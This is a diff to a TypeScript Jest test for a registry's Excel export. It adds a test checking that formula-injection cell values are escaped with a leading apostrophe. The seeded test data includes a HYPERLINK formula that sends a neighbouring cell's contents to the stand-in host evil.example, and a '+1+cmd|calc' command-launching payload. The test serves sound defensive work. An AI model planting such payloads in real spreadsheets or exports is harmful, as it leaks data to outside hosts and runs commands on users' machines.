@@ -93,6 +93,8 @@ describe(`registry Excel export on ${backend.name}`, () => {
   afterAll(async () => {
     await t?.close();
   });
+  // Starting the app and seeding take longer than Jest's default on a busy CI machine.
+  jest.setTimeout(120_000);
 
   const exportOf = (who: { auth: string }, what: 'persons' | 'households', query: Record<string, string> = {}) =>
     t.http().get(`/api/admin/registry/exports/${what}`).query(query).set('Authorization', who.auth).buffer(true).parse(binary);
@@ -154,6 +156,49 @@ describe(`registry Excel export on ${backend.name}`, () => {
     expect(await sheetOf(none.body as Buffer)).toHaveLength(1);
     const [audit] = await (await dataSourceOf(t)).getRepository(AuditLog).find({ where: { action: 'registry.export', resourceType: 'household' }, order: { seq: 'ASC' }, take: 1 });
     expect(JSON.parse(audit.detail ?? '{}')).toMatchObject({ kind: 'households', rows: 1 });
+  });
+
+  it('neutralises formula injection: text cells starting with = + - @ tab or CR get a leading apostrophe', async () => {
+    const ds = await dataSourceOf(t);
+    const cipher = await t.get(PiiCipher);
+    const lab = await createRegion(t, '公式村', 'village', town);
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")';
+    const names = [hyperlink, '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '正常=名字'];
+    await ds.getRepository(Person).insert(
+      names.map((name, i) => ({
+        id: randomUUID(),
+        regionId: lab.id,
+        scopePath: lab.path,
+        name,
+        gender: 'male' as const,
+        birthDate: null,
+        idNumber: cipher.seal(idOf('19900101', 500 + i)),
+        phone: cipher.seal(null),
+        hukouType: 'local' as const,
+        status: 'active' as const,
+        note: i === 0 ? '=1+2' : null,
+      })),
+    );
+    await ds.getRepository(Household).insert({ id: randomUUID(), code: '=HX()', type: 'resident', regionId: lab.id, scopePath: lab.path, headPersonId: null, address: '-1 号' });
+    const admin = await staffAs(t, { username: 'formula.admin', roles: ['village_admin'], region: lab });
+    const res = await exportOf(admin, 'persons');
+    expect(res.status).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.body as unknown as ExcelJS.Buffer);
+    const cells: ExcelJS.CellValue[] = [];
+    wb.worksheets[0].eachRow((row, n) => {
+      if (n > 1) cells.push(row.getCell(1).value, row.getCell(18).value);
+    });
+    // Every cell is plain text (never a formula object) and every trigger is prefixed.
+    for (const v of cells) expect(v === null || typeof v === 'string').toBe(true);
+    const written = new Set(cells.filter((v): v is string => typeof v === 'string'));
+    // XML readers normalise a CR to LF, so the CR case is compared as read back.
+    for (const name of names.slice(0, 6)) expect(written).toContain(`'${name}`.replace(/\r/g, '\n'));
+    expect(written).toContain('正常=名字');
+    expect(written).toContain("'=1+2");
+    const households = await sheetOf((await exportOf(admin, 'households')).body as Buffer);
+    expect(households[1].slice(0, 1)).toEqual(["'=HX()"]);
+    expect(households[1][6]).toBe("'-1 号");
   });
 
   it('answers EXPORT_TOO_LARGE beyond the row limit', async () => {
